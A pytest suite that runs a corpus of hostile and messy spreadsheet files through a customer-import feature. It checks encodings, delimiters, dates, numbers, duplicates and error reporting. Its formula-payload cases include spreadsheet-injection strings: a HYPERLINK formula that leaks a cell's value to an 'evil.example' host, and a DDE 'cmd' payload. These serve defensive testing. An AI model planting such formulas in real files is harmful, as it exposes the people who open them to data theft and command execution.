"""The hostile and messy import corpus (tests/import_corpus/): one named case per file and
options, each asserting what issue #8 asks of the import — the job's status, its five
counts, every row error as (row, column, field, code) or the job's error message, and
what was written.

Rows are numbered as the user's spreadsheet numbers them: the header is row 1, a record
is one row even when a quoted field spans lines, and a blank line is a row (a
spreadsheet shows it as an empty one) that is otherwise ignored.
"""

from __future__ import annotations

import datetime as dt
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import select

from models import Customer, CustomerTag
from models.enums import BusinessType, CustomerStatus
from resolvers.config import DomainConfig
from tests.api.import_support import counts, manager_token, row_errors, run_import_details, upload

CORPUS = Path(__file__).resolve().parents[1] / "import_corpus"
ANY = object()  # a row error part the issue leaves open
NOTHING = (0, 0, 0, 0, 0)


@dataclass(frozen=True)
class Case:
    """One file, the options it is imported with, and what the issue says must happen."""

    id: str
    file: str
    options: dict[str, Any] | None = None
    status: str = "SUCCEEDED"
    # (created, updated, unchanged, skipped, failed)
    counts: tuple[int, int, int, int, int] = NOTHING
    # (row, column, field, code), in file order
    errors: tuple[tuple[Any, Any, Any, Any], ...] = ()
    # substrings of the job's errorMessage (a FAILED job)
    message: tuple[str, ...] = ()
    # (field, code) of ImportCustomers' payload errors: no job at all
    payload: tuple[tuple[str, str], ...] | None = None
    # every customer code in the database afterwards (None: not checked)
    codes: frozenset[str] | None = None
    # selected values of customers, by code
    customers: dict[str, dict[str, Any]] = field(default_factory=dict)
    total_rows: int | None = None
    unknown_columns: tuple[str, ...] | None = None
    delimiter: str | None = None
    # customers that exist before the import: (code, name, email)
    setup: tuple[tuple[str, str, str | None], ...] = ()


def _codes(*codes: str) -> frozenset[str]:
    return frozenset(codes)


def _names(names: dict[str, str]) -> dict[str, dict[str, Any]]:
    return {code: {"name": name} for code, name in names.items()}


# Existing customers for the ambiguity cases: the file's row 2 has AMB-A's code and
# AMB-B's email; rows 3 and 4 match AMB-D by code and AMB-E by email.
AMBIGUITY_SETUP = tuple(
    (f"AMB-{x}", f"Existing {x}", f"{x.lower()}@amb.in") for x in ("A", "B", "D", "E")
)
SB, EN = BusinessType.SMALL_BUSINESS.value, BusinessType.ENTERPRISE.value

CASES: list[Case] = [
    # ------------------------------------------------------------------ encodings
    Case(
        "utf8-with-bom",
        "utf8_bom.csv",
        counts=(2, 0, 0, 0, 0),
        codes=_codes("U8B-1", "U8B-2"),
        customers={
            "U8B-1": {
                "name": "Café Müller",
                "business_type": SB,
                "email": "cafe@muller.in",
                "phone": "+919820012345",
                "tax_id": "27AAPFU0939F1ZV",
                "state": "Maharashtra",
                "credit_limit": "50000.00",
            },
            "U8B-2": {"name": "Łódź Tools", "business_type": EN, "credit_limit": None},
        },
    ),
    Case(
        "utf8-without-bom",
        "utf8_no_bom.csv",
        counts=(4, 0, 0, 0, 0),
        codes=_codes("U8-1", "U8-2", "U8-3", "U8-4"),
        customers={
            "U8-1": {"name": "शर्मा ट्रेडर्स"},
            "U8-2": {"name": "Ñandú Exports"},
            "U8-3": {"name": "Zoë’s Bakery", "business_type": "INDIVIDUAL"},
            "U8-4": {"name": "முருகன் ஸ்டோர்ஸ்"},
        },
    ),
    Case(
        "utf16le-bom-excel-unicode-text-tab-crlf",
        "utf16le_bom_excel_unicode_text.txt",
        counts=(3, 0, 0, 0, 0),
        delimiter="\t",
        codes=_codes("U16-1", "U16-2", "U16-3"),
        customers={
            "U16-1": {"name": "Café Müller", "phone": "+919820012345", "state": "Maharashtra"},
            "U16-2": {"name": "शर्मा ट्रेडर्स", "state": "Karnataka", "business_type": EN},
            "U16-3": {"name": "Plain Ascii Ltd", "business_type": "GOVERNMENT"},
        },
    ),
    Case(
        "cp1252-accents-detected",
        "cp1252_accents.csv",
        counts=(5, 0, 0, 0, 0),
        codes=_codes("CP-1", "CP-2", "CP-3", "CP-4", "CP-5"),
        customers={
            "CP-1": {"name": "Café Müller", "city": "München"},
            "CP-2": {"name": "Zoë’s Bakery", "city": "Köln"},
            "CP-3": {"name": "Crème Brûlée Société", "city": "Besançon"},
            "CP-4": {"name": "Señor Óscar Peña", "city": "Málaga"},
            "CP-5": {"name": "“Quoted” Trading – Exports", "city": "Zürich"},
        },
    ),
    Case(
        "cp1252-accents-with-encoding-option",
        "cp1252_accents.csv",
        options={"encoding": "cp1252"},
        counts=(5, 0, 0, 0, 0),
        customers={
            "CP-1": {"name": "Café Müller", "city": "München"},
            "CP-2": {"name": "Zoë’s Bakery"},
        },
    ),
    Case(
        "latin1-accents-detected",
        "latin1_accents.csv",
        counts=(5, 0, 0, 0, 0),
        codes=_codes("L1-1", "L1-2", "L1-3", "L1-4", "L1-5"),
        customers={
            "L1-1": {"name": "Société Générale Équipements", "city": "Orléans"},
            "L1-2": {"name": "Ålborg Maskinfabrik", "city": "Ålborg"},
            "L1-3": {"name": "Øresund Trading", "city": "København"},
            "L1-4": {"name": "Françoise Dubois", "city": "Besançon"},
            "L1-5": {"name": "José Peña Hermanos", "city": "Córdoba"},
        },
    ),
    Case(
        "latin1-accents-with-encoding-option",
        "latin1_accents.csv",
        options={"encoding": "latin-1"},
        counts=(5, 0, 0, 0, 0),
        customers={"L1-2": {"name": "Ålborg Maskinfabrik"}, "L1-3": {"name": "Øresund Trading"}},
    ),
    Case(
        "cp1252-single-accent-detected",
        "cp1252_one_accent.csv",
        counts=(3, 0, 0, 0, 0),
        customers={"C1-1": {"name": "Müller Traders", "city": "Pune"}},
    ),
    Case(
        "utf16be-bom-comma",
        "utf16be_bom_comma.csv",
        counts=(2, 0, 0, 0, 0),
        delimiter=",",
        customers={"BE-1": {"name": "Café Müller"}, "BE-2": {"name": "Zoë Exports"}},
    ),
    Case(
        "excel-csv-utf8-semicolon-crlf",
        "excel_csv_utf8_semicolon_crlf.csv",
        counts=(2, 0, 0, 0, 0),
        delimiter=";",
        customers={
            "EX-1": {"name": "Müller GmbH", "credit_limit": "25000.00"},
            "EX-2": {"name": "Kraft, Söhne & Co", "credit_limit": "100000.00"},
        },
    ),
    # ------------------------------------------------------------------ delimiters
    Case(
        # cp1252 too ("Müller"); a decimal comma is refused, never guessed
        "semicolon-cp1252-decimal-commas-refused",
        "semicolon_decimal_comma.csv",
        counts=(2, 0, 0, 0, 2),
        delimiter=";",
        errors=(
            (4, "Credit Limit", "creditLimit", "INVALID_NUMBER"),
            (5, "Credit Limit", "creditLimit", "INVALID_NUMBER"),
        ),
        codes=_codes("SC-1", "SC-2"),
        customers={
            "SC-1": {"name": "Müller GmbH, Werk 2", "credit_limit": "25000.00"},
            "SC-2": {"name": "Rossi SpA", "credit_limit": "150000.00"},
        },
    ),
    Case(
        "tab-delimited",
        "tab_delimited.tsv",
        counts=(2, 0, 0, 0, 0),
        delimiter="\t",
        customers={
            "TB-1": {"name": "Sharma, Verma & Co", "tags": ["export", "vip"]},
            "TB-2": {"name": 'Quote "Inside" Works', "tags": []},
        },
    ),
    Case(
        "pipe-delimited",
        "pipe_delimited.csv",
        counts=(2, 0, 0, 0, 0),
        delimiter="|",
        customers={
            "PP-1": {"name": "Iyer, Iyer & Sons", "credit_limit": "100000.00"},
            "PP-2": {"name": "Gupta Metals", "credit_limit": "250000.75"},
        },
    ),
    Case(
        "quote-character-option",
        "single_quote_char.csv",
        options={"quoteChar": "'"},
        counts=(2, 0, 0, 0, 0),
        codes=_codes("SQ-1", "SQ-2"),
        customers={"SQ-1": {"name": "Sharma, Verma & Co"}},
    ),
    Case(
        "unsniffable-delimiter-fails-naming-the-delimiter",
        "tilde_delimited.csv",
        status="FAILED",
        message=("delimiter",),
        codes=_codes(),
    ),
    Case(
        "unsniffable-delimiter-fixed-by-option",
        "tilde_delimited.csv",
        options={"delimiter": "~"},
        counts=(2, 0, 0, 0, 0),
        delimiter="~",
        codes=_codes("TD-1", "TD-2"),
        customers={"TD-2": {"name": "Tilde, Two", "business_type": EN}},
    ),
    # ------------------------------------------------------------------ records and rows
    Case(
        "quoted-newlines-keep-row-numbers",
        "quoted_multiline.csv",
        counts=(2, 0, 0, 0, 2),
        total_rows=4,
        errors=(
            (3, "Email", "email", "VALIDATION_ERROR"),
            (5, "Email", "email", "VALIDATION_ERROR"),
        ),
        codes=_codes("QM-1", "QM-3"),
        customers={
            "QM-1": {"address_line1": "Plot 12 MIDC Industrial Area Andheri East"},
            "QM-3": {"address_line1": "Simple address"},
        },
    ),
    Case(
        "crlf-line-endings",
        "crlf_line_endings.csv",
        counts=(2, 0, 0, 0, 1),
        errors=((4, "Email", "email", "VALIDATION_ERROR"),),
        codes=_codes("CR-1", "CR-2"),
        customers={"CR-1": {"name": "Crlf One", "address_line1": "Shed 4 Ring Road"}},
    ),
    Case(
        "blank-lines-ignored-but-numbered",
        "blank_lines.csv",
        counts=(2, 0, 0, 0, 2),
        total_rows=4,
        errors=(
            (4, "Email", "email", "VALIDATION_ERROR"),
            (9, "Email", "email", "VALIDATION_ERROR"),
        ),
        codes=_codes("BL-1", "BL-3"),
    ),
    Case(
        "ragged-rows-are-row-errors",
        "ragged_rows.csv",
        counts=(3, 0, 0, 0, 2),
        errors=((3, None, None, "RAGGED_ROW"), (6, None, None, "RAGGED_ROW")),
        codes=_codes("RG-1", "RG-3", "RG-4"),
    ),
    Case(
        "header-only-imports-nothing",
        "header_only.csv",
        counts=NOTHING,
        total_rows=0,
        codes=_codes(),
    ),
    Case("empty-file-is-a-payload-error", "empty.csv", payload=(("file", "EMPTY_FILE"),)),
    Case(
        # the quote opened on row 3 never closes: the rest of the file is not one name
        "unterminated-quote-fails-naming-its-row",
        "unterminated_quote.csv",
        status="FAILED",
        message=("Row 3",),
        codes=_codes(),
    ),
    Case(
        "whitespace-and-nbsp-trimmed",
        "whitespace_nbsp.csv",
        counts=(1, 0, 0, 0, 0),
        codes=_codes("WS-1"),
        customers={
            "WS-1": {
                "name": "Spaced Out Ltd",
                "business_type": SB,
                "email": "spaced@out.in",
                "phone": "+919820012349",
            }
        },
    ),
    # ------------------------------------------------------------------ headers and mapping
    Case(
        "duplicate-headers-fail-before-writing",
        "duplicate_headers.csv",
        status="FAILED",
        message=("Email", "E-mail"),
        codes=_codes(),
    ),
    Case(
        "missing-name-column-fails-before-writing",
        "missing_name_column.csv",
        status="FAILED",
        message=("Name",),
        codes=_codes(),
    ),
    Case(
        "unknown-columns-reported-not-fatal",
        "unknown_columns.csv",
        counts=(1, 0, 0, 0, 0),
        unknown_columns=("Favourite Colour", "Notes"),
    ),
    Case(
        "header-synonyms-case-spacing-punctuation",
        "header_synonyms.csv",
        counts=(1, 0, 0, 0, 0),
        unknown_columns=(),
        customers={
            "SY-1": {
                "name": "Synonym Traders",
                "business_type": SB,
                "email": "sales@synonym.in",
                "phone": "+919845012345",
                "tax_id": "29ABCDE1234F1Z5",
                "state": "Karnataka",
                "credit_limit": "125000.00",
                "postal_code": "560001",
                "since": "2020-08-15",
            }
        },
    ),
    Case(
        "explicit-mapping",
        "explicit_mapping.csv",
        options={
            "mapping": [
                {"column": "Col A", "field": "NAME"},
                {"column": "col b", "field": "BUSINESS_TYPE"},
                {"column": " Col C ", "field": "CODE"},
            ]
        },
        counts=(2, 0, 0, 0, 0),
        codes=_codes("EM-1", "EM-2"),
        customers={"EM-2": {"name": "Mapped Two", "business_type": EN}},
    ),
    Case(
        "explicit-mapping-of-an-absent-column-fails",
        "explicit_mapping.csv",
        options={
            "mapping": [
                {"column": "Col A", "field": "NAME"},
                {"column": "Col Z", "field": "BUSINESS_TYPE"},
            ]
        },
        status="FAILED",
        message=("Col Z",),
        codes=_codes(),
    ),
    # ------------------------------------------------------------------ values
    Case(
        "formula-payloads-imported-as-text-and-unneutralised",
        "formula_payloads.csv",
        counts=(8, 0, 0, 0, 0),
        customers=_names(
            {
                "FX-1": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
                "FX-2": "+cmd|' /C calc'!A0",
                "FX-3": "-2+3",
                "FX-4": "@SUM(A1:A2)",
                "FX-5": "=1+2",
                "FX-6": "-5 Degrees North",
                "FX-7": "'@twice",
                "FX-8": "'Plain Quote Ltd",
            },
        ),
    ),
    Case(
        "formula-payloads-kept-as-typed-without-reversal",
        "formula_payloads.csv",
        options={"reverseFormulaNeutralisation": False},
        counts=(8, 0, 0, 0, 0),
        customers=_names(
            {"FX-3": "-2+3", "FX-5": "'=1+2", "FX-7": "''@twice", "FX-8": "'Plain Quote Ltd"},
        ),
    ),
    Case(
        "ambiguous-day-month-is-an-error-never-a-guess",
        "ambiguous_dates.csv",
        options={"dateFormats": ["DD/MM/YYYY", "MM/DD/YYYY"]},
        counts=(4, 0, 0, 0, 2),
        errors=(
            (2, "Customer Since", "customerSince", "AMBIGUOUS_DATE"),
            (7, "Customer Since", "customerSince", "INVALID_DATE"),
        ),
        codes=_codes("AD-2", "AD-3", "AD-4", "AD-5"),
        customers={
            "AD-2": {"since": "2024-04-13"},
            "AD-3": {"since": "2024-04-13"},
            "AD-4": {"since": "2024-04-03"},
            "AD-5": {"since": "2024-05-05"},
        },
    ),
    Case(
        "two-digit-years-rejected",
        "two_digit_years.csv",
        counts=(2, 0, 0, 0, 4),
        errors=tuple(
            (row, "Customer Since", "customerSince", "INVALID_DATE") for row in (2, 3, 4, 5)
        ),
        codes=_codes("TY-5", "TY-6"),
        customers={"TY-5": {"since": "2024-04-03"}, "TY-6": {"since": "2024-01-01"}},
    ),
    Case(
        "indian-and-western-grouping-bad-grouping-refused",
        "indian_grouping.csv",
        counts=(6, 0, 0, 0, 3),
        errors=tuple((row, "Credit Limit", "creditLimit", "INVALID_NUMBER") for row in (5, 8, 10)),
        codes=_codes("IG-1", "IG-2", "IG-3", "IG-5", "IG-6", "IG-8"),
        customers={
            "IG-1": {"credit_limit": "100000.00"},
            "IG-2": {"credit_limit": "1234567.50"},
            "IG-3": {"credit_limit": "500000.00"},
            "IG-5": {"credit_limit": "100000.00"},
            "IG-6": {"credit_limit": "10000000.00"},
            "IG-8": {"credit_limit": "25000.00"},
        },
    ),
    Case(
        "state-codes-and-names-normalised",
        "states.csv",
        counts=(8, 0, 0, 0, 1),
        errors=((9, "State", "address.state", "VALIDATION_ERROR"),),
        customers={
            "ST-1": {"state": "Maharashtra"},
            "ST-2": {"state": "Maharashtra"},
            "ST-3": {"state": "Tamil Nadu"},
            "ST-4": {"state": "Tamil Nadu"},
            "ST-5": {"state": "Odisha"},
            "ST-6": {"state": "Delhi"},
            "ST-7": {"state": "Karnataka"},
            "ST-9": {"state": "Jammu and Kashmir"},
        },
    ),
    Case(
        # "Tamilnadu" and "Westbengal" are common spellings of the names, without the space
        "state-names-written-as-one-word-normalised",
        "state_joined_spelling.csv",
        counts=(2, 0, 0, 0, 0),
        customers={"SJ-1": {"state": "Tamil Nadu"}, "SJ-2": {"state": "West Bengal"}},
    ),
    Case(
        "business-type-synonyms",
        "business_types.csv",
        counts=(7, 0, 0, 0, 2),
        errors=(
            (9, "Type", "businessType", "VALIDATION_ERROR"),
            (10, "Type", "businessType", "REQUIRED"),
        ),
        customers={
            "BT-1": {"business_type": SB},
            "BT-2": {"business_type": EN},
            "BT-3": {"business_type": "GOVERNMENT"},
            "BT-4": {"business_type": "INDIVIDUAL"},
            "BT-5": {"business_type": SB},
            "BT-6": {"business_type": EN},
            "BT-7": {"business_type": SB},
        },
    ),
    Case(
        "blank-business-type-takes-the-default-option",
        "business_types.csv",
        options={"defaultBusinessType": "GOVERNMENT"},
        counts=(8, 0, 0, 0, 1),
        errors=((9, "Type", "businessType", "VALIDATION_ERROR"),),
        customers={"BT-9": {"business_type": "GOVERNMENT"}, "BT-1": {"business_type": SB}},
    ),
    Case(
        "phone-numbers-in-many-spellings",
        "phones.csv",
        counts=(7, 0, 0, 0, 2),
        errors=(
            (9, "Mobile", "phone", "VALIDATION_ERROR"),
            (10, "Mobile", "phone", "VALIDATION_ERROR"),
        ),
        customers={
            "PH-1": {"phone": "+919820012345"},
            "PH-2": {"phone": "+919820012345"},
            "PH-3": {"phone": "+919820012346"},
            "PH-4": {"phone": "+919820012347"},
            "PH-5": {"phone": "+912222661234"},
            "PH-6": {"phone": "+442079460958"},
            "PH-7": {"phone": "+919820012348"},
        },
    ),
    Case(
        "mixed-valid-and-invalid-rows",
        "mixed_valid_invalid.csv",
        counts=(2, 0, 0, 0, 8),
        errors=(
            (3, "Name", "name", "REQUIRED"),
            (4, "Email", "email", "VALIDATION_ERROR"),
            (5, "Tax ID", "taxId", "VALIDATION_ERROR"),
            (6, "Status", "status", "VALIDATION_ERROR"),
            (7, "Country", "address.country", "VALIDATION_ERROR"),
            (8, "Owner Email", "ownerEmail", "NOT_FOUND"),
            (9, "Code", "code", "VALIDATION_ERROR"),
            (10, "Email", "email", "VALIDATION_ERROR"),
            (10, "Phone", "phone", "VALIDATION_ERROR"),
        ),
        codes=_codes("MX-1", "MX-10"),
        customers={
            "MX-1": {"email": "a@mx.in", "status": "ACTIVE", "country": "IN"},
            "MX-10": {"status": "PROSPECT", "country": "IN", "credit_limit": "250000.00"},
        },
    ),
    Case(
        "mixed-rows-with-reject-everything-write-nothing",
        "mixed_valid_invalid.csv",
        options={"errorPolicy": "REJECT_EVERYTHING"},
        counts=(0, 0, 0, 0, 8),
        errors=(
            (3, "Name", "name", "REQUIRED"),
            (4, "Email", "email", "VALIDATION_ERROR"),
            (5, "Tax ID", "taxId", "VALIDATION_ERROR"),
            (6, "Status", "status", "VALIDATION_ERROR"),
            (7, "Country", "address.country", "VALIDATION_ERROR"),
            (8, "Owner Email", "ownerEmail", "NOT_FOUND"),
            (9, "Code", "code", "VALIDATION_ERROR"),
            (10, "Email", "email", "VALIDATION_ERROR"),
            (10, "Phone", "phone", "VALIDATION_ERROR"),
        ),
        codes=_codes(),
    ),
    Case(
        "dry-run-reports-and-writes-nothing",
        "indian_grouping.csv",
        options={"dryRun": True},
        counts=(6, 0, 0, 0, 3),
        errors=tuple((row, "Credit Limit", "creditLimit", "INVALID_NUMBER") for row in (5, 8, 10)),
        codes=_codes(),
    ),
    # ------------------------------------------------------------------ duplicates
    Case(
        "row-matching-two-customers-is-ambiguous",
        "ambiguous_match.csv",
        setup=AMBIGUITY_SETUP,
        counts=(1, 0, 0, 2, 1),
        errors=((2, None, None, "AMBIGUOUS"),),
        codes=_codes("AMB-A", "AMB-B", "AMB-C", "AMB-D", "AMB-E"),
        customers={
            "AMB-A": {"name": "Existing A"},
            "AMB-B": {"name": "Existing B"},
            "AMB-D": {"name": "Existing D"},
            "AMB-E": {"name": "Existing E"},
        },
    ),
    Case(
        "row-matching-two-customers-is-ambiguous-in-update-mode",
        "ambiguous_match.csv",
        options={"onDuplicate": "UPDATE"},
        setup=AMBIGUITY_SETUP,
        counts=(1, 2, 0, 0, 1),
        errors=((2, None, None, "AMBIGUOUS"),),
        codes=_codes("AMB-A", "AMB-B", "AMB-C", "AMB-D", "AMB-E"),
        customers={
            "AMB-A": {"name": "Existing A", "email": "a@amb.in"},
            "AMB-B": {"name": "Existing B", "email": "b@amb.in"},
            "AMB-D": {"name": "Matches D Only", "email": "d@amb.in"},
            "AMB-E": {"name": "Matches E By Email", "email": "e@amb.in"},
        },
    ),
    Case(
        "same-key-twice-in-file-reported-on-second-occurrence",
        "in_file_duplicates.csv",
        counts=(2, 0, 0, 0, 3),
        errors=(
            (3, "Code", "code", "DUPLICATE_IN_FILE"),
            (4, "Email", "email", "DUPLICATE_IN_FILE"),
            (5, "Tax ID", "taxId", "DUPLICATE_IN_FILE"),
        ),
        codes=_codes("DUP-1", "DUP-5"),
        customers={"DUP-1": {"name": "First"}},
    ),
    # ------------------------------------------------------------------ junk and limits
    Case(
        "random-bytes-fail",
        "random_bytes.csv",
        status="FAILED",
        message=("CSV",),
        codes=_codes(),
    ),
    Case(
        "png-renamed-csv-fails",
        "png_renamed.csv",
        status="FAILED",
        message=("CSV",),
        codes=_codes(),
    ),
    Case(
        "old-binary-xls-fails-asking-for-xlsx-or-csv",
        "legacy_excel_97.xls",
        status="FAILED",
        message=(".xls",),
        codes=_codes(),
    ),
    Case(
        "corrupt-workbook-fails",
        "corrupt_workbook.xlsx",
        status="FAILED",
        message=("XLSX",),
        codes=_codes(),
    ),
    Case(
        "zip-that-is-no-workbook-fails",
        "zip_not_workbook.xlsx",
        status="FAILED",
        message=("XLSX",),
        codes=_codes(),
    ),
    Case(
        "huge-single-line-fails-on-row-1",
        "huge_single_line.csv",
        status="FAILED",
        message=("Row 1",),
        codes=_codes(),
    ),
    Case(
        "field-over-the-limit-fails-naming-its-row-before-writing",
        "giant_field.csv",
        status="FAILED",
        message=("Row 3",),
        codes=_codes(),
    ),
    # ------------------------------------------------------------------ workbooks
    Case(
        # both day orders allowed: a real date cell is still one day
        "xlsx-date-and-number-cells",
        "xlsx_typed_cells.xlsx",
        options={"dateFormats": ["DD/MM/YYYY", "MM/DD/YYYY"]},
        counts=(2, 0, 0, 0, 1),
        errors=((4, "Credit Limit", "creditLimit", "INVALID_NUMBER"),),
        codes=_codes("XT-1", "1001"),
        customers={
            "XT-1": {
                "phone": "+919820012345",
                "credit_limit": "100000.00",
                "since": "2024-03-04",
                "tax_id": "27AAPFU0939F1ZV",
            },
            "1001": {
                "name": "Typed Two",
                "phone": "+919845012345",
                "credit_limit": "2500.50",
                "since": "2022-01-15",
            },
        },
    ),
    Case(
        "xlsx-formula-cells-read-as-their-values-text-kept-as-typed",
        "xlsx_formula.xlsx",
        counts=(3, 0, 0, 0, 0),
        customers={
            "XF-1": {"name": "Formula Works", "credit_limit": "5000.00"},
            "XF-2": {"name": '=HYPERLINK("http://evil.example","Click")'},
            "XF-3": {"name": "'=1+2"},
        },
    ),
    Case(
        "xlsx-named-sheet-with-blank-rows-keeps-row-numbers",
        "xlsx_named_sheet_blank_rows.xlsx",
        options={"sheet": "Customers"},
        counts=(2, 0, 0, 0, 1),
        errors=((5, "Email", "email", "VALIDATION_ERROR"),),
        codes=_codes("NS-1", "NS-3"),
    ),
    Case(
        "xlsx-absent-sheet-fails-naming-it",
        "xlsx_named_sheet_blank_rows.xlsx",
        options={"sheet": "Kunden"},
        status="FAILED",
        message=("Kunden",),
        codes=_codes(),
    ),
]

CONFIG = DomainConfig()


def _value(customer: Customer, tags: dict[int, list[str]], name: str) -> Any:
    if name == "tags":
        return sorted(tags.get(customer.id, []))
    if name == "since":
        return customer.created_at.astimezone(CONFIG.timezone).date().isoformat()
    value = getattr(customer, name)
    if name == "credit_limit":
        return None if value is None else f"{value:.2f}"
    if isinstance(value, BusinessType | CustomerStatus):
        return value.value
    return value


async def _setup(api: Any, customers: tuple[tuple[str, str, str | None], ...]) -> None:
    if not customers:
        return
    async with api.db.write_session() as session:
        for code, name, email in customers:
            session.add(
                Customer(
                    code=code,
                    name=name,
                    email=email,
                    business_type=BusinessType.SMALL_BUSINESS,
                    status=CustomerStatus.ACTIVE,
                    country="IN",
                    search_text=name.lower(),
                    created_at=dt.datetime(2024, 1, 1, tzinfo=dt.UTC),
                )
            )
        await session.commit()


async def _written(api: Any) -> tuple[dict[str, Customer], dict[int, list[str]]]:
    async with api.db.read_session() as session:
        customers = (await session.scalars(select(Customer))).all()
        tag_rows = (await session.execute(select(CustomerTag.customer_id, CustomerTag.tag))).all()
    tags: dict[int, list[str]] = {}
    for customer_id, tag in tag_rows:
        tags.setdefault(customer_id, []).append(tag)
    return {c.code: c for c in customers}, tags


def _matches(expected: tuple[Any, ...], actual: tuple[Any, ...]) -> bool:
    return len(expected) == len(actual) and all(
        e is ANY or e == a for e, a in zip(expected, actual, strict=True)
    )


def _content_type(filename: str) -> str:
    if filename.endswith(".xlsx"):
        return "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    return "text/csv" if filename.endswith(".csv") else "application/octet-stream"


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
async def test_corpus_file(api: Any, case: Case) -> None:
    content = (CORPUS / case.file).read_bytes()
    await _setup(api, case.setup)
    if case.payload is not None:
        token = await manager_token(api)
        body = await upload(
            api,
            token,
            content,
            filename=case.file,
            options=case.options,
            content_type=_content_type(case.file),
        )
        payload = body["data"]["importCustomers"]
        assert payload["job"] is None, payload
        assert [(e["field"], e["code"]) for e in payload["errors"]] == list(case.payload)
        assert await api.run_jobs("customer-import") == []
        return

    job = await run_import_details(api, content, filename=case.file, options=case.options)

    assert job["status"] == case.status, (job["status"], job["errorMessage"], row_errors(job))
    if case.status == "FAILED":
        message = job["errorMessage"] or ""
        assert all(part in message for part in case.message), message
        assert not job["written"]
    else:
        assert job["errorMessage"] is None
    assert counts(job) == case.counts, (counts(job), row_errors(job))
    actual = [(e["row"], e["column"], e["field"], e["code"]) for e in row_errors(job)]
    assert len(actual) == len(case.errors) and all(
        _matches(e, a) for e, a in zip(case.errors, actual, strict=False)
    ), actual
    assert job["rowErrors"]["totalCount"] == len(case.errors)
    assert all(e["message"] for e in row_errors(job))
    if case.total_rows is not None:
        assert job["totalRows"] == case.total_rows
    if case.unknown_columns is not None:
        assert job["unknownColumns"] == list(case.unknown_columns)
    if case.delimiter is not None:
        assert job["delimiter"] == case.delimiter
    # a failed row is in the error report; a file without failed rows has none
    assert bool(job["errorReportUrl"]) == bool(case.errors and case.status == "SUCCEEDED")

    written, tags = await _written(api)
    if case.codes is not None:
        assert set(written) == set(case.codes)
    for code, values in case.customers.items():
        assert code in written, (code, sorted(written))
        got = {name: _value(written[code], tags, name) for name in values}
        assert got == values, code


def test_the_corpus_has_at_least_25_files() -> None:
    files = [p for p in CORPUS.iterdir() if p.is_file() and p.suffix != ".py"]
    assert len(files) >= 25
    assert {c.file for c in CASES} == {p.name for p in files}
